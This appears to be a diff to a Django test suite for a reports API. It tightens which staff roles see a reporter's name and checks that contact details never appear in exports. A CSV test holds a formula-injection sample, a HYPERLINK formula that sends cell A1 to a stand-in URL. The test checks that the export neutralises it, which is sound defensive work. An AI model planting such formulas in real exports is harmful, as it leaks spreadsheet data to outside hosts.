@@ -13,7 +13,7 @@ from django.utils import timezone
 
 from reports import representation
 from reports.models import Report
-from tests.conftest import REPORTER_EMAIL, REPORTER_PHONE, staff_user
+from tests.conftest import REPORTER_EMAIL, REPORTER_PHONE, staff_user, verified_login
 from tests.conftest import make_report as report
 from tests.images import GANTING_GPS
 
@@ -81,7 +81,7 @@ def test_a_bad_filter_is_a_400_naming_it(client, params, field):
     assert response.status_code == 400 and field in response.json()
 
 
-def test_visitors_get_public_reports_and_fields_planners_hidden_ones_too_and_nobody_the_contact(
+def test_visitors_get_public_reports_and_fields_planners_hidden_ones_too_dispatchers_the_name_and_nobody_the_contact(
     client, django_user_model
 ):
     shown, hidden = report(), report(lat=-0.4608, hidden=True)
@@ -91,9 +91,13 @@ def test_visitors_get_public_reports_and_fields_planners_hidden_ones_too_and_nob
     client.force_login(staff_user(django_user_model, "bima", "planner"))
     _, staff = geojson(client)
     assert sorted(f["properties"]["code"] for f in staff["features"]) == sorted([shown.code, hidden.code])
-    assert staff["features"][0]["properties"]["reporter_name"] == "Siti"
-    for export in (json.dumps(public), json.dumps(staff), b"".join(client.get("/api/v1/reports.csv")
-                                                                    .streaming_content).decode()):
+    assert "hidden" in staff["features"][0]["properties"]
+    assert "reporter_name" not in staff["features"][0]["properties"]  # planners never see it
+    verified_login(client, staff_user(django_user_model, "dewi", "dispatcher"))
+    _, desk = geojson(client)
+    assert desk["features"][0]["properties"]["reporter_name"] == "Siti"
+    for export in (json.dumps(public), json.dumps(staff), json.dumps(desk),
+                   b"".join(client.get("/api/v1/reports.csv").streaming_content).decode()):
         assert PHONE not in export and EMAIL not in export
 
 
@@ -130,7 +134,7 @@ def test_a_semicolon_csv_for_a_spreadsheet_that_writes_decimal_commas(client):
 def test_csv_text_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(client, django_user_model):
     report(reporter_name='=HYPERLINK("http://example.org/?"&A1,"klik")', lat=GANTING_GPS[0] - 0.0001)
     report(reporter_name="@SUM(1+1)")
-    client.force_login(staff_user(django_user_model, "rina", "planner"))
+    verified_login(client, staff_user(django_user_model, "dewi", "dispatcher"))
     table = csv_rows(client.get("/api/v1/reports.csv"))
     assert sorted(row["reporter_name"] for row in table) == ["'=HYPERLINK(\"http://example.org/?\"&A1,\"klik\")",
                                                               "'@SUM(1+1)"]
